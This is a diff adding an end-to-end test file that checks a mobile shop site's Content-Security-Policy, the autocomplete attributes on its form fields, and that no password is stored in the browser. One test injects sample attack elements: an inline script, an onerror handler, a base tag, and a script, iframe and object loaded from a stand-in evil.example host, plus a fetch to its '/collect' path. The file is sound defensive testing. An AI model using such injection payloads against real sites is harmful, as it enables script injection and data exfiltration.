@@ -1,0 +1,141 @@
+import { pagePolicy } from '../../config/security-policy'
+import { Phone } from './phone'
+
+jest.setTimeout(60_000)
+
+const noCaptcha = { home_user_register_img_verify_state: 0 }
+let phone: Phone
+
+beforeAll(async () => {
+  phone = await Phone.open()
+  await phone.page.exposeFunction('tellRefused', (what: string) => refused.push(what))
+  await phone.page.addInitScript(() => {
+    const tell: unknown = Reflect.get(window, 'tellRefused')
+    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+      if (typeof tell === 'function') tell(`${violatedDirective} ${blockedURI}`)
+    })
+  })
+})
+beforeEach(() => {
+  refused.length = 0
+})
+afterAll(() => phone?.close())
+
+const refused: string[] = []
+
+test('the page carries its policy with it, and no way around it', async () => {
+  await phone.startAfresh('home')
+  const content = await phone.page
+    .locator('meta[http-equiv="Content-Security-Policy"]')
+    .getAttribute('content')
+  expect(content).toBe(pagePolicy)
+  expect(content?.split('; ')).toContain("script-src 'self'")
+  expect(content).not.toContain('unsafe-eval')
+  expect(await phone.page.locator('script:not([src])').count()).toBe(0)
+})
+
+test('every screen and picker is drawn and used within the policy', async () => {
+  await phone.startAfresh('sign-in')
+  await phone.screen.locator('.ac-captcha-picture').waitFor()
+  await phone.startAfresh('register', noCaptcha)
+  await phone.register('zhang_san')
+  await phone.button('个人资料').tap()
+  for (const name of ['性别', '生日', '所在地区']) {
+    await phone.screen.getByRole('button', { name: new RegExp(`^${name}`) }).tap()
+    await phone.page.getByRole('dialog').getByRole('button', { name: '确定' }).tap()
+    await phone.page.getByRole('dialog').waitFor({ state: 'detached' })
+  }
+  const chooser = phone.page.waitForEvent('filechooser')
+  await phone.screen.getByRole('button', { name: /^头像/ }).tap()
+  await (await chooser).setFiles({
+    name: 'me.png',
+    mimeType: 'image/png',
+    buffer: await phone.page.screenshot(),
+  })
+  await phone.screen.locator('.ac-avatar img[src*="/static/upload/"]').waitFor()
+  await phone.button('保存').tap()
+  await phone.page.getByText('已保存').waitFor()
+  await phone.visit('bind-mobile')
+  await phone.field('手机号').waitFor()
+  await phone.visit('agreement')
+  await phone.screen.locator('.ac-agreement-text p').first().waitFor()
+  await phone.configure({ home_site_app_state: ['h5'] })
+  await phone.visit('register')
+  await phone.heading('商店暂停服务').waitFor()
+  expect(refused).toEqual([])
+  expect(phone.troubles).toEqual([])
+})
+
+test('a script that got into the page runs not, neither its own nor a foreign one', async () => {
+  await phone.startAfresh('home')
+  await phone.button('登录').waitFor()
+  const asked: string[] = []
+  phone.page.on('request', (request) => asked.push(request.url()))
+  await phone.page.evaluate(() => {
+    const add = (name: string, attributes: Record<string, string>, text = '') => {
+      const element = Object.assign(document.createElement(name), { textContent: text })
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+      document.body.append(element)
+    }
+    add('script', {}, 'window.__ran = 1')
+    add('script', { src: 'https://evil.example/x.js' })
+    add('iframe', { src: 'https://evil.example/' })
+    add('object', { data: 'https://evil.example/x.swf' })
+    add('img', { src: 'x', onerror: 'window.__ran = 1' })
+    add('base', { href: 'https://evil.example/' })
+    void fetch('https://evil.example/collect').catch(() => {})
+  })
+  await phone.page.waitForTimeout(200)
+  expect(await phone.page.evaluate(() => Reflect.get(window, '__ran'))).toBeUndefined()
+  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
+  expect(refused.map((what) => what.split(' ')[0])).toEqual(
+    expect.arrayContaining([
+      'script-src-elem',
+      'script-src-attr',
+      'frame-src',
+      'object-src',
+      'connect-src',
+      'base-uri',
+    ]),
+  )
+})
+
+test('password managers and keyboards know what every field is for', async () => {
+  const shown = () =>
+    phone.screen
+      .locator('input:not([type=checkbox]):not([type=radio])')
+      .evaluateAll((fields) =>
+        fields.map((field) =>
+          [
+            field.getAttribute('aria-label'),
+            field.getAttribute('type') ?? 'text',
+            field.getAttribute('autocomplete'),
+          ].join(' '),
+        ),
+      )
+  const choose = (kind: string) => phone.screen.getByRole('radio', { name: kind }).tap()
+  await phone.startAfresh('register', noCaptcha)
+  await phone.withoutCaptcha()
+  expect(await shown()).toEqual(['用户名 text username', '密码 password new-password'])
+  await choose('手机号')
+  await phone.field('短信验证码').waitFor()
+  expect(await shown()).toEqual(expect.arrayContaining(['手机号 tel tel', '密码 password new-password']))
+  expect((await shown()).find((line) => line.startsWith('短信验证码'))).toMatch(/one-time-code$/)
+  await choose('邮箱')
+  await phone.field('邮箱').waitFor()
+  expect(await shown()).toEqual(expect.arrayContaining(['邮箱 email email']))
+  await phone.startAfresh('sign-in', { home_user_login_img_verify_state: 0 })
+  await phone.field('图片验证码').waitFor({ state: 'detached' })
+  expect(await shown()).toEqual(['账号 text username', '密码 password current-password'])
+})
+
+test('a typed password is kept nowhere, and no later form has a field to be filled with it', async () => {
+  await phone.startAfresh('register', noCaptcha)
+  await phone.register('zhang_san')
+  await phone.button('个人资料').tap()
+  await phone.field('昵称').waitFor()
+  expect(await phone.page.evaluate(() => JSON.stringify(Object.entries(localStorage)))).not.toContain(
+    'secret12',
+  )
+  expect(await phone.screen.locator('input[type=password], [autocomplete*=password]').count()).toBe(0)
+})
